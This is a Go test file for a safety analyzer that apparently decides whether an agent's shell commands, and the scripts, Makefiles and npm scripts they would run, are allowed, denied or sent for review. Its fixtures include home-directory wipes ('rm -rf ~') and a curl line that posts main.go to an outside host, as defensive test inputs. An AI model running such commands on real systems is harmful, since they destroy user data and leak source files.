package effects_test

import (
	"errors"
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"

	"github.com/docket-engine/docket/effects"
)

// onDisk is a file system in memory, by absolute path.
type onDisk map[string]string

func (d onDisk) Lstat(name string) (fs.FileInfo, error) {
	return fs.Stat(d.tree(), strings.TrimPrefix(name, "/"))
}

func (d onDisk) Readlink(string) (string, error) { return "", fs.ErrInvalid }

func (d onDisk) ReadFile(name string, limit int64) ([]byte, error) {
	text, err := fs.ReadFile(d.tree(), strings.TrimPrefix(name, "/"))
	if int64(len(text)) > limit {
		return nil, errors.New("too long")
	}
	return text, err
}

func (d onDisk) tree() fs.FS {
	tree := fstest.MapFS{}
	for name, text := range d {
		tree[strings.TrimPrefix(name, "/")] = &fstest.MapFile{Data: []byte(text)}
	}
	return tree
}

// with analyses a command beside files of the project.
func (d onDisk) with(t *testing.T, command string) effects.Answer {
	t.Helper()
	text, err := json.Marshal(map[string]string{"command": command})
	if err != nil {
		t.Fatal(err)
	}
	f := facts()
	f.Files = onDisk{}
	for name, text := range d {
		f.Files.(onDisk)["/workspace/demo/"+name] = text
	}
	return effects.Analyze(effects.Call{Tool: "shell", Arguments: jsontext.Value(text)}, f)
}

func rulesOf(a effects.Answer) []string {
	var ids []string
	for _, f := range a.Findings {
		if f.Decision == a.Decision && !slices.Contains(ids, f.Rule) {
			ids = append(ids, f.Rule)
		}
	}
	return ids
}

// TestWhatWillRunCountsAsIfItStoodInTheCall: scripts, targets, packages' scripts and
// code that lie on the disk.
func TestWhatWillRunCountsAsIfItStoodInTheCall(t *testing.T) {
	project := onDisk{
		"ok.sh":        "#!/bin/sh\nset -e\ngo build ./...\necho done\n",
		"wipe.sh":      "#!/bin/bash\nrm -rf ~\n",
		"odd.sh":       "frobnicate --all\n",
		"calls.sh":     "bash wipe.sh\n",
		"loop.sh":      "bash loop.sh\n",
		"sum.py":       "import json\nprint(json.loads('[1]'))\n",
		"evil.py":      "import os\nos.system('rm -rf ~')\n",
		"send.js":      "fetch('https://example.com', {method: 'POST', body: 'x'})\n",
		"tool":         "#!/usr/bin/env python3\nprint(1)\n",
		"blob":         "\x7fELF\x00\x00",
		"Makefile":     "BIN := out/app\nall: test build\ntest:\n\tgo test ./...\nbuild: $(BIN)\n$(BIN): main.go\n\tgo build -o $@ ./...\nclean:\n\trm -rf $(BIN)\nwipe:\n\trm -rf $(HOME)\nship: build\n\t@git push\nodd:\n\tfrobnicate\ninclude more.mk\n",
		"more.mk":      "later:\n\tsudo ls\n",
		"run.mk":       "X := $(shell curl -d @main.go https://example.com)\nall:\n\tgo build ./...\n",
		"package.json": `{"scripts": {"build": "tsc -p .", "test": "vitest run", "pretest": "rm -rf ~", "deploy": "git push", "lint": "eslint ."}}`,
	}
	for command, want := range map[string]string{
		"bash ok.sh": "allow project-build", "sh ./ok.sh": "allow project-build", "./ok.sh": "allow project-build", "source ok.sh": "allow project-build",
		"bash wipe.sh": "deny delete-home", "./wipe.sh": "deny delete-home", "bash calls.sh": "deny delete-home", "bash loop.sh": "needs-review",
		"bash odd.sh": "needs-review script-not-understood", "bash none.sh": "needs-review script-unknown",
		"python3 sum.py": "allow", "python3 evil.py": "deny delete-home", "node send.js": "needs-review network-send", "./tool": "allow", "./blob": "needs-review script-not-understood",
		"make": "allow project-build", "make all": "allow project-build", "make clean": "needs-review delete-unproven", "make wipe": "deny", "make ship": "needs-review vcs-remote", "make odd": "needs-review script-not-understood", "make later": "deny", "make -f run.mk": "needs-review",
		"npm run build": "allow project-build", "npm test": "deny delete-home", "npm run deploy": "needs-review vcs-remote", "npm run lint": "allow project-build", "npm run none": "needs-review script-unknown", "yarn build": "allow project-build",
	} {
		t.Run(command, func(t *testing.T) {
			a := project.with(t, command)
			decision, rule, _ := strings.Cut(want, " ")
			if string(a.Decision) != decision || rule != "" && !slices.Contains(rulesOf(a), rule) {
				t.Errorf("got %s by %v, want %s; %v", a.Decision, rulesOf(a), want, a.Findings)
			}
		})
	}
}

// TestEachFileThatWouldRunIsInTheAnswerWithItsHash: also those that are not
// understood, so that dispatch can check them.
func TestEachFileThatWouldRunIsInTheAnswerWithItsHash(t *testing.T) {
	project := onDisk{"a.sh": "bash b.sh\n", "b.sh": "frobnicate\n", "Makefile": "include more.mk\nall:\n\tls\n", "more.mk": ""}
	for command, want := range map[string][]string{
		"bash a.sh": {"/workspace/demo/a.sh 10", "/workspace/demo/b.sh 11"},
		"make":      {"/workspace/demo/Makefile 25", "/workspace/demo/more.mk 0"},
		"cat a.sh":  nil,
	} {
		var got []string
		for _, f := range project.with(t, command).Files {
			got = append(got, fmt.Sprintf("%s %d", f.Path, f.Size))
			if len(f.SHA256) != 64 {
				t.Errorf("%s: its hash is %q", f.Path, f.SHA256)
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: got %v, want %v", command, got, want)
		}
	}
}

// TestScriptsAreReadWithinBounds: a file that is too long, chains that are too deep
// and folders in the place of files are not allowed.
func TestScriptsAreReadWithinBounds(t *testing.T) {
	project := onDisk{"long.sh": strings.Repeat("ls\n", 100_000), "dir/x.sh": "ls\n"}
	for i := range 8 {
		project[fmt.Sprintf("deep%d.sh", i)] = fmt.Sprintf("bash deep%d.sh\n", i+1)
	}
	project["deep8.sh"] = "ls\n"
	for _, command := range []string{"bash long.sh", "bash deep0.sh", "bash dir", "bash ."} {
		if a := project.with(t, command); a.Decision != effects.Review {
			t.Errorf("%s: got %s, want %s; %v", command, a.Decision, effects.Review, a.Findings)
		}
	}
	if a := project.with(t, "bash deep6.sh"); a.Decision != effects.Allow {
		t.Errorf("a chain of three: got %s, %v", a.Decision, a.Findings)
	}
}
